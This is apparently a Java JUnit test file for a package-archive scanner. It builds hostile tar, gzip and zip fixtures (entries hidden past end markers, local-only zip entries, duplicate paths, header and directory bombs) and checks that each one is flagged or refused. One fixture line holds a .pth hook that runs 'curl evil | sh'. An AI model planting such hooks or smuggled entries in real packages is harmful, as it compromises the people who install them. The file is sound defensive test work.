package dev.divergence.archive;

import static dev.divergence.fixtures.HostileArchives.concat;
import static dev.divergence.fixtures.HostileArchives.gzip;
import static dev.divergence.fixtures.HostileArchives.header;
import static dev.divergence.fixtures.HostileArchives.tar;
import static dev.divergence.fixtures.HostileArchives.zeros;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.demo.PythonDistributions;
import dev.divergence.fixtures.HostileArchives;
import dev.divergence.model.ArtifactFile;
import dev.divergence.model.RiskFlag;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.apache.commons.compress.archivers.tar.TarConstants;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Archives are read as the consumer's installer reads them (CPython's gzip/tarfile, pip's central-directory view of
 * a zip, extractors keeping the last copy of a path), and whatever those readers would disagree on is a warning.
 */
class InstallerViewTest {

    @TempDir
    Path dir;

    private static final byte[] A = "a = 1\n".getBytes(StandardCharsets.UTF_8);
    private static final byte[] HOOK = "import os; os.system('curl evil | sh')\n".getBytes(StandardCharsets.UTF_8);

    private ArchiveListing read(String name, byte[] bytes) throws Exception {
        Path p = dir.resolve(name);
        Files.write(p, bytes);
        return assertTimeoutPreemptively(Duration.ofSeconds(60), () -> ArchiveReaders.read(p, ArchiveLimits.defaults()));
    }

    private static List<String> paths(ArchiveListing l) {
        return l.files().stream().map(ArtifactFile::path).toList();
    }

    @Test
    void everyGzipMemberIsReadAndZeroPaddingBetweenAndAfterIsSkippedAsCPythonDoes() throws Exception {
        // The tar stream continues in a second member, after 1000 zero bytes; 700 more zeros close the file.
        byte[] first = gzip(tar(List.of(Map.entry("p/a.py", A)), false));
        byte[] second = gzip(tar(List.of(Map.entry("p/hook.pth", HOOK)), true));
        ArchiveListing l = read("members.tar.gz", concat(first, zeros(1000), second, zeros(700)));
        assertEquals(Optional.empty(), l.error());
        assertEquals(List.of("p/a.py", "p/hook.pth"), paths(l));
        assertEquals(List.of(), l.warnings());
    }

    @Test
    void bytesAfterTheLastGzipMemberAreAFinding() throws Exception {
        byte[] tgz = gzip(tar(List.of(Map.entry("p/a.py", A)), true));
        ArchiveListing l = read("garbage.tar.gz", concat(tgz, "GARBAGE".getBytes(StandardCharsets.US_ASCII)));
        assertEquals(Optional.empty(), l.error());
        assertEquals(List.of("p/a.py"), paths(l));
        assertEquals(List.of("7 bytes after gzip member 1 are not a gzip member: CPython's gzip stops there with an "
                + "error, other readers ignore them"), l.warnings());
    }

    @Test
    void entriesPastASingleZeroRecordAreAFinding() throws Exception {
        // npm's tar reads on after one zero record; tarfile and Commons Compress stop at it.
        byte[] hidden = concat(tar(List.of(Map.entry("p/a.py", A)), false), zeros(512),
                tar(List.of(Map.entry("p/hook.pth", HOOK)), true));
        ArchiveListing l = read("hidden.tar.gz", gzip(hidden));
        assertEquals(List.of("p/a.py"), paths(l));
        assertEquals(List.of("data after the tar end-of-archive marker (0 bytes after it): npm's tar reads entries past "
                + "a single zero record, Python's tarfile stops there"), l.warnings());
    }

    @Test
    void aCleanTarGzHasNoWarnings() throws Exception {
        ArchiveListing l = read("clean.tar.gz", PythonDistributions.tarGz(new java.util.TreeMap<>(Map.of("p/a.py", A))));
        assertEquals(List.of("p/a.py"), paths(l));
        assertEquals(List.of(), l.warnings());
        assertEquals(Optional.empty(), l.error());
    }

    @Test
    void gnuLongNameDeclaringGigabytesIsRefusedBeforeAnythingIsBuffered() throws Exception {
        // 4 GiB declared, about 3 GiB of zeros actually there (48 members of 64 MiB): a reader that buffers the
        // name runs out of the test JVM's heap; this one stops at the header.
        Path bomb = dir.resolve("bomb.tar.gz");
        HostileArchives.longNameBomb(bomb, 4L << 30, 48);
        assertTrue(Files.size(bomb) < 8 << 20, "the bomb is small on disk: " + Files.size(bomb));
        ArchiveListing l = assertTimeoutPreemptively(Duration.ofSeconds(60),
                () -> ArchiveReaders.read(bomb, ArchiveLimits.defaults()));
        assertEquals(Optional.of("limit exceeded: tar GNU long name header declares 4294967296 bytes (at most 1048576 "
                + "are read)"), l.error());
        assertEquals(List.of(), l.files());
    }

    @Test
    void paxHeaderDeclaringGigabytesIsRefused() throws Exception {
        ArchiveListing l = read("pax.tar.gz", gzip(concat(header("./PaxHeaders/x", TarConstants.LF_PAX_EXTENDED_HEADER_LC,
                3L << 30), zeros(1 << 20))));
        assertEquals(Optional.of("limit exceeded: tar PAX header declares 3221225472 bytes (at most 1048576 are read)"),
                l.error());
    }

    @Test
    void aLongChainOfLongNameHeadersIsRefusedBeforeTheReaderRecursesDeep() throws Exception {
        byte[] link = concat(header("././@LongLink", TarConstants.LF_GNUTYPE_LONGNAME, 8),
                "p/x.py\0\0".getBytes(StandardCharsets.US_ASCII), zeros(504));
        byte[][] chain = new byte[20_000][];
        java.util.Arrays.fill(chain, link);
        ArchiveListing l = read("chain.tar.gz", gzip(concat(concat(chain), zeros(1024))));
        assertEquals(Optional.of("limit exceeded: more than 16 chained tar metadata headers (GNU long name/link, PAX) "
                + "before one entry"), l.error());
    }

    @Test
    void aGzipFileNameFieldWithoutEndIsRefusedBeforeItIsBuffered() throws Exception {
        byte[] name = new byte[2 << 20];
        java.util.Arrays.fill(name, (byte) 'a');
        byte[] plain = gzip(tar(List.of(Map.entry("p/a.py", A)), true));
        byte[] member = concat(new byte[] {0x1f, (byte) 0x8b, 8, 0x08, 0, 0, 0, 0, 0, (byte) 0xff}, name, zeros(1),
                java.util.Arrays.copyOfRange(plain, 10, plain.length));
        assertEquals(Optional.of("limit exceeded: gzip header file name of member 1 is longer than 1048576 bytes"),
                read("fname.tar.gz", member).error());
    }

    /** One PAX record: "LENGTH key=value\n", the length counting itself. */
    private static String pax(String key, String value) {
        String body = " " + key + "=" + value + "\n";
        int n = body.length() + 1;
        while (String.valueOf(n).length() + body.length() != n) {
            n++;
        }
        return n + body;
    }

    @Test
    void aSparseMapThatNeverEndsIsRefusedWhileTheReaderCollectsIt() throws Exception {
        // PAX 1.0 sparse format: the map of holes is at the start of the entry's data, and the reader keeps it all.
        byte[] paxBody = (pax("GNU.sparse.major", "1") + pax("GNU.sparse.minor", "0") + pax("GNU.sparse.name", "p/s")
                + pax("GNU.sparse.realsize", "1000")).getBytes(StandardCharsets.US_ASCII);
        byte[] paxRecord = java.util.Arrays.copyOf(paxBody, 512);
        byte[] map = concat("100000000\n".getBytes(StandardCharsets.US_ASCII),
                "0\n0\n".repeat(2_000_000).getBytes(StandardCharsets.US_ASCII));
        byte[] data = java.util.Arrays.copyOf(map, (map.length + 511) / 512 * 512);
        byte[] archive = concat(header("./PaxHeaders/s", TarConstants.LF_PAX_EXTENDED_HEADER_LC, paxBody.length),
                paxRecord, header("p/GNUSparseFile.0/s", TarConstants.LF_NORMAL, data.length), data, zeros(1024));
        assertEquals(Optional.of("limit exceeded: tar headers before one entry exceed 4194304 bytes"),
                read("sparse.tar.gz", gzip(archive)).error());
    }

    @Test
    void eachCopyOfADuplicatedPathIsAddressedByItsOwnContentAndPathsGiveTheLastCopy() throws Exception {
        byte[] tgz = gzip(tar(List.of(Map.entry("p/a.py", A), Map.entry("p/a.py", HOOK)), true));
        Path p = dir.resolve("dup.tar.gz");
        Files.write(p, tgz);
        // kept from the reading pass, and read again from the archive (nothing kept)
        for (ArchiveListing l : List.of(ArchiveReaders.read(p, ArchiveLimits.defaults()),
                new ArchiveListing("tar+gzip", ArchiveReaders.read(p, ArchiveLimits.defaults()).files(), Optional.empty()))) {
            List<ArtifactFile> copies = l.files();
            assertEquals(2, copies.size());
            assertEquals(List.of(RiskFlag.CODE, RiskFlag.DUPLICATE_ENTRY), List.copyOf(copies.get(1).flags()));
            Map<String, byte[]> bySha = l.contentsOf(p, copies, 1 << 20);
            assertArrayEquals(A, bySha.get(copies.get(0).sha256()));
            assertArrayEquals(HOOK, bySha.get(copies.get(1).sha256()));
            assertArrayEquals(HOOK, l.contents(p, Set.of("p/a.py"), 1 << 20).get("p/a.py"));
        }
        assertArrayEquals(HOOK, ArchiveReaders.extract(p, Set.of("p/a.py"), 1 << 20).get("p/a.py"));
        assertEquals(List.of("p/a.py is stored more than once with different contents (extractors keep the last)"),
                ArchiveReaders.read(p, ArchiveLimits.defaults()).warnings());
    }

    @Test
    void aZipEntryOnlyItsLocalHeaderKnowsIsAFinding() throws Exception {
        byte[] visible = PythonDistributions.zip(new LinkedHashMap<>(Map.of("demo/a.py", A)));
        byte[] hidden = PythonDistributions.zip(new LinkedHashMap<>(Map.of("demo/evil.pth", HOOK)));
        ArchiveListing clean = read("clean.zip", visible);
        assertEquals(List.of(), clean.warnings());
        byte[] z = HostileArchives.zipWithLocalOnlyEntry(visible, hidden);
        ArchiveListing l = read("local-only.zip", z);
        assertEquals(Optional.empty(), l.error());
        assertEquals(List.of("demo/a.py"), paths(l));
        int at = java.nio.ByteBuffer.wrap(visible).order(java.nio.ByteOrder.LITTLE_ENDIAN).getInt(visible.length - 6);
        int hiddenLength = java.nio.ByteBuffer.wrap(hidden).order(java.nio.ByteOrder.LITTLE_ENDIAN)
                .getInt(hidden.length - 6);
        assertEquals(List.of("zip bytes outside the central directory's entries (" + hiddenLength + " bytes at offset "
                + at + " that no entry covers: local header for demo/evil.pth not in the central directory)"),
                l.warnings());
    }

    @Test
    void aZipAppendedToAnotherLeavesTheFirstDirectoryAsAFinding() throws Exception {
        byte[] first = PythonDistributions.zip(new LinkedHashMap<>(Map.of("demo/a.py", A)));
        byte[] second = PythonDistributions.zip(new LinkedHashMap<>(Map.of("demo/a.py", HOOK)));
        ArchiveListing l = read("two.zip", concat(first, second));
        // Readers take the last directory (offsets shifted by the first archive's length): the first is left over.
        assertEquals(List.of("demo/a.py"), paths(l));
        assertEquals(EntryDigest.sha256(HOOK), l.files().get(0).sha256());
        assertEquals(List.of("zip bytes outside the central directory's entries (" + first.length + " bytes before the "
                + "first local header: local header for demo/a.py not in the central directory, a central directory "
                + "record not in use, a second end of central directory record)"), l.warnings());
    }

    @Test
    void aCentralDirectoryOfMoreRecordsThanTheEntryLimitIsRefusedBeforeItIsParsed() throws Exception {
        // 250,000 empty 46-byte records (11 MB): Commons Compress would build an object per record before the
        // first entry is visited. Their local headers do not exist: parsing them would fail differently.
        int n = 250_000;
        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(n * 46 + 22).order(java.nio.ByteOrder.LITTLE_ENDIAN);
        for (int i = 0; i < n; i++) {
            b.putInt(i * 46, 0x02014b50);
        }
        b.putInt(n * 46, 0x06054b50);
        b.putShort(n * 46 + 8, (short) 0xffff);
        b.putShort(n * 46 + 10, (short) 0xffff);
        b.putInt(n * 46 + 12, n * 46);
        ArchiveListing l = read("directory.zip", concat(new byte[] {'P', 'K', 5, 6}, b.array()));
        assertEquals(Optional.of("limit exceeded: more than 200000 entries"), l.error());
    }

    @Test
    void bytesAfterTheZipEndRecordAreAFinding() throws Exception {
        byte[] visible = PythonDistributions.zip(new LinkedHashMap<>(Map.of("demo/a.py", A)));
        ArchiveListing l = read("tail.zip", concat(visible, "PK\3\4tail".getBytes(StandardCharsets.ISO_8859_1)));
        assertEquals(List.of("zip bytes outside the central directory's entries (8 bytes after the end of central "
                + "directory record)"), l.warnings());
    }
}
